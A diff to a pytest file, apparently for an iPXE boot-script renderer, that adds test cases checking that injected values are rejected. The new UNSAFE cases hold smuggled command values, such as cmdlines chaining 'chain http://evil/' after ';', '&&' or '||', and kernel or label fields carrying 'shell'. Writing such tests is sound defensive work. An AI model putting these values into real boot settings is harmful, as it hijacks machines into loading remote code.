@@ -118,13 +118,30 @@ UNSAFE = [
     BootSpec(BootAction.SANBOOT, san=SanTarget("10.0.0.1", "iqn.x\nshell", 1, "iqn.y")),
     BootSpec(BootAction.SANBOOT, san=SanTarget("10.0.0.1", "iqn.x", 1, "iqn.y", "u", "p w")),
     BootSpec(BootAction.SANBOOT),
+    # issue 11 (Low 10): iPXE's own command chaining and comments
+    BootSpec(BootAction.KERNEL, kernel="k", cmdline="quiet ; chain http://evil/"),
+    BootSpec(BootAction.KERNEL, kernel="k", cmdline="quiet;chain"),
+    BootSpec(BootAction.KERNEL, kernel="k", cmdline="quiet && chain http://evil/"),
+    BootSpec(BootAction.KERNEL, kernel="k", cmdline="quiet || chain http://evil/"),
+    BootSpec(BootAction.KERNEL, kernel="k", cmdline="quiet #rest"),
+    BootSpec(BootAction.KERNEL, kernel="k;shell"),
+    BootSpec(BootAction.KERNEL, kernel="k", label="agent\nshell"),
+    BootSpec(BootAction.KERNEL, kernel="k", label="agent || shell"),
 ]
+
+SAFE_CMDLINES = ["console=ttyS0,115200 quiet", "ks=http://10.0.0.1/k#frag", "a=b&c=d", "x|y"]
 
 
 @pytest.mark.parametrize("spec", UNSAFE)
 def test_nothing_can_inject_into_the_script(renderer, spec):
     with pytest.raises(UnsafeScriptValue):
         renderer.render(spec, MAC, "")
+
+
+@pytest.mark.parametrize("cmdline", SAFE_CMDLINES)
+def test_ordinary_cmdlines_still_render(renderer, cmdline):
+    text = renderer.render(BootSpec(BootAction.KERNEL, kernel="k", cmdline=cmdline), MAC, "")
+    assert f" {cmdline} || goto failed" in text
 
 
 def test_absolute_kernel_urls_pass_through(renderer):
